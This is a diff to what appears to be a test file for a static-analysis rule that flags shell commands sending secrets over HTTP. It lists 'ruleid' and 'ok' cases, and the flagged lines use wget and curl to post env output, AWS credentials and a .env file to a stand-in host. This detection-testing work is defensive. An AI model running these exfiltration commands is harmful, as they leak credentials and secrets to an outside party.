@@ -94,8 +94,12 @@ wget --post-data="$(env)" https://x.example/in
 wget --post-file=/home/ci/.aws/credentials https://x.example/in
 # ok: sh-secret-sent-by-http-client
 curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
+# ruleid: sh-secret-sent-by-http-client
+curl -s -F "f=@.env" https://x.example/up
 # ok: sh-secret-sent-by-http-client
 env | grep -c PATH
+# ok: sh-secret-sent-by-http-client
+curl -s https://x.example/docs/.environment-setup.html
 # ok: sh-secret-sent-by-http-client
 ls ~/.ssh && curl -s https://api.example/health
 
